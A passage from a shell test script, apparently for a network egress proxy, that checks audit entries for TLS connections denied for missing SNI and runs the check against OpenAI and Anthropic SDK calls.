	expect_audit 1 "$L_AUDIT" event=deny op=tls reason=no_sni dst_ip="$SNI_SDK_ADDR" \
		dst_port=443
}

test_sni_openai_sdk() {
	sni_sdk openai OPENAI_API_KEY openai.chat.completions.create
}

test_sni_anthropic_sdk() {
	sni_sdk anthropic ANTHROPIC_API_KEY anthropic.messages.create
}
